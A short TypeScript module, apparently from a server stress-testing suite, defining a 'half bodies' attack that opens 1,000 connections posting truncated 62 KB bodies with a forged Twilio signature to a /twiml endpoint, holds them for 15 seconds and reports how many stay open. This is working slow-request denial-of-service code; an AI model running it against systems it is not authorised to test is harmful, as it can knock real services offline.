import { type Attack, forgedSignature, pause } from "../Attack.ts"
import { destroyAll, openMany, post, countOpen } from "../sockets.ts"

export const halfBodies: Attack = {
  name: "half bodies",
  strength: "1,000 connections, 60 of 62 KB each",
  seconds: 15,
  run: async (siege) => {
    const text = post("/twiml", "x".repeat(62_000), `X-Twilio-Signature: ${forgedSignature()}`).slice(0, -2000)
    const sockets = await openMany(siege, 1000, text)
    for (const socket of sockets) socket.resume()
    await pause(siege.millisLeft())
    const left = countOpen(sockets)
    destroyAll(sockets)
    return `${left} of ${sockets.length} still open`
  }
}
